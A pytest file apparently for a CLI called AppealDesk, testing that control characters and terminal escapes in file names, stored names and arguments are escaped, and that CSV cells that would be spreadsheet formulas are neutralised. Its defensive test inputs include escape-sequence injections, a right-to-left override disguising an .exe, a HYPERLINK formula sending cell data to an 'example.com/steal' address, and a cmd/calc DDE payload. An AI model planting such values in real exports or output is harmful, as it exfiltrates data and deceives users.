"""What the command line prints is text, never commands for the terminal or the spreadsheet.

File names come from whoever made the file, and the database may hold text written by an
older AppealDesk or another program. Control characters in file names are left out when a
file is added; whatever reaches the terminal has its control characters escaped; a CSV
cell that a spreadsheet would run as a formula starts with an apostrophe.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import sqlite3
from pathlib import Path

import pytest

from appealdesk.store.evidence_store import EvidenceStore, evidence_dir_for
from tests.cli.test_cli import appealdesk
from tests.images import write_image

RAW = ("\x1b", "\x07", "\x9b", "\r", "\u202e", "\u2066")


@pytest.fixture(scope="module")
def demo_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile-output") / "demo.db"
    result = appealdesk("demo", path, "--lang", "en")
    assert result.returncode == 0, result.stderr
    return path


@pytest.fixture
def database(demo_template: Path, tmp_path: Path) -> Path:
    path = tmp_path / "cases.db"
    shutil.copyfile(demo_template, path)
    shutil.copytree(evidence_dir_for(demo_template), evidence_dir_for(path))
    return path


def assert_nothing_raw(text: str) -> None:
    for character in RAW:
        assert character not in text, f"{character!r} in {text!r}"


@pytest.mark.slow
@pytest.mark.subprocess
def test_control_characters_in_file_names_are_left_out_when_added(
    qapp: object, database: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "incoming"
    folder.mkdir()
    names = {
        "notice\nadded: fake.png (SHA-256 0000).png": "notice added: fake.png (SHA-256 0000).png",
        "\x1b[2J\x1b]0;owned\x07wipe\x9b.png": "[2J]0;ownedwipe.png",
        "holiday\u202egnp.exe.png": "holidaygnp.exe.png",
        "tab\there\rand\x85there.png": "tab here and there.png",
    }
    colours = iter(["#aa0000", "#00aa00", "#0000aa", "#aaaa00"])
    files = [write_image(folder / name, colour=next(colours)) for name in names]
    result = appealdesk("evidence", "add", "--db", database, "TT-2026-0003", *files)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == len(names)
    assert all(line.startswith("added: ") for line in lines)
    assert_nothing_raw(result.stdout)
    for shown in names.values():
        assert sum(line.startswith(f"added: {shown} (SHA-256 ") for line in lines) == 1

    stored = json.loads(
        appealdesk("case", "show", "--db", database, "TT-2026-0003", "--format", "json").stdout
    )
    kept = {item["original_name"] for item in stored["evidence"]}
    assert set(names.values()) <= kept
    titles = {item["title"] for item in stored["evidence"]}
    assert "holidaygnp.exe" in titles


@pytest.mark.slow
@pytest.mark.subprocess
def test_a_refused_file_is_one_line_whatever_its_name(database: Path, tmp_path: Path) -> None:
    fake = tmp_path / "fake\n\x1b[31mrefused: everything else.png"
    fake.write_text("not a picture")
    result = appealdesk("evidence", "add", "--db", database, "TT-2026-0003", fake)
    assert result.returncode == 1
    (line,) = result.stderr.splitlines()
    assert line.startswith("refused: fake [31mrefused: everything else.png: ")
    assert_nothing_raw(result.stderr)


def _plant(database: Path, client_name: str, original_name: str) -> str:
    """Text that AppealDesk itself would not store, written by another program; returns
    the number of a case of that client, whose first evidence file goes missing."""
    with sqlite3.connect(database) as raw:
        case_number, client_id, evidence_id, sha256 = raw.execute(
            "SELECT c.case_number, a.client_id, e.id, e.sha256 FROM cases AS c "
            "JOIN accounts AS a ON a.id = c.account_id "
            "JOIN evidence_items AS e ON e.case_id = c.id ORDER BY c.id, e.id LIMIT 1"
        ).fetchone()
        raw.execute("UPDATE clients SET name = ? WHERE id = ?", (client_name, client_id))
        raw.execute(
            "UPDATE evidence_items SET original_name = ? WHERE id = ?", (original_name, evidence_id)
        )
        shared = raw.execute(
            "SELECT count(*) FROM evidence_items WHERE sha256 = ?", (sha256,)
        ).fetchone()[0]
    assert shared == 1
    stored = EvidenceStore(evidence_dir_for(database)).path_for(sha256)
    stored.chmod(0o600)
    stored.unlink()
    return str(case_number)


@pytest.mark.slow
@pytest.mark.subprocess
def test_stored_control_characters_are_printed_escaped(database: Path) -> None:
    client = "Evil\x1b]0;pwned\x07\x9b2J\nTT-2026-9999,new,tiktok\u202e"
    name = "x\x1b[2Jy\r\nadded: z.png"
    case_number = _plant(database, client, name)

    table = appealdesk("cases", "--db", database)
    assert table.returncode == 0, table.stderr
    assert_nothing_raw(table.stdout)
    assert "Evil\\x1b]0;pwned\\x07\\x9b2J TT-2026-9" in table.stdout  # cut at 40 columns
    cases = json.loads(appealdesk("cases", "--db", database, "--format", "json").stdout)
    assert len(table.stdout.splitlines()) == len(cases) + 2

    as_json = appealdesk("cases", "--db", database, "--format", "json")
    assert_nothing_raw(as_json.stdout)
    assert client in {record["client"] for record in json.loads(as_json.stdout)}

    as_csv = appealdesk("cases", "--db", database, "--format", "csv")
    assert_nothing_raw(as_csv.stdout)
    rows = list(csv.reader(io.StringIO(as_csv.stdout)))
    assert len(rows) == len(cases) + 1
    assert "Evil\\x1b]0;pwned\\x07\\x9b2J\nTT-2026-9999,new,tiktok\\u202e" in {
        row[4] for row in rows
    }

    show = appealdesk("case", "show", "--db", database, case_number)
    assert show.returncode == 0, show.stderr
    assert_nothing_raw(show.stdout)
    assert "Client: Evil\\x1b]0;pwned\\x07\\x9b2J\\nTT-2026-9999" in show.stdout

    check = appealdesk("check", "--db", database)
    assert check.returncode == 1
    assert_nothing_raw(check.stdout)
    assert f"  missing: x\\x1b[2Jy\\r\\nadded: z.png of {case_number} (" in check.stdout
    assert not any(line.startswith("added:") for line in check.stdout.splitlines())


@pytest.mark.slow
@pytest.mark.subprocess
def test_an_argument_with_control_characters_is_echoed_escaped(
    database: Path, tmp_path: Path
) -> None:
    out = tmp_path / "dossier\x1b[8m\nappealdesk: all is well.txt"
    result = appealdesk("export", "--db", database, "TT-2026-0003", "--out", out)
    assert result.returncode == 1
    (line,) = result.stderr.splitlines()
    assert "dossier\\x1b[8m\\nappealdesk: all is well.txt" in line
    assert_nothing_raw(result.stderr)
    result = appealdesk("cases", "--db", database, "--format", "csv\x1b]0;x\x07")
    assert result.returncode == 2
    assert len(result.stderr.splitlines()) == 1
    assert_nothing_raw(result.stderr)


FORMULAS = [
    '=HYPERLINK("https://example.com/steal?d="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB=1+1",
    "\r=1+1",
]


@pytest.mark.slow
@pytest.mark.subprocess
@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_cell_that_would_be_a_formula_starts_with_an_apostrophe(
    database: Path, formula: str
) -> None:
    with sqlite3.connect(database) as raw:
        client_id = raw.execute("SELECT client_id FROM accounts ORDER BY id LIMIT 1").fetchone()[0]
        raw.execute("UPDATE clients SET name = ? WHERE id = ?", (formula, client_id))
    result = appealdesk("cases", "--db", database, "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    clients = {row[4] for row in rows[1:]}
    shown = formula.replace("\r", "\\r")
    expected = shown if shown.startswith("\\r") else "'" + shown
    assert expected in clients
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit()
    # Handles are written without their "@"; dates and the rest stay as they were.
    assert all(not row[3].startswith(("@", "'")) for row in rows[1:])
    assert all(row[6][:4].isdigit() for row in rows[1:])


def test_plain_numbers_and_dates_stay_as_they_are() -> None:
    from appealdesk.cli.output import to_csv

    text = to_csv(
        ["a", "b", "c", "d", "e"],
        [["-12", "-3.5", "+7", "2026-11-21", -4], ["-1-1", "", "x", None, 0]],
    )
    assert text.splitlines() == ["a,b,c,d,e", "-12,-3.5,+7,2026-11-21,-4", "'-1-1,,x,,0"]
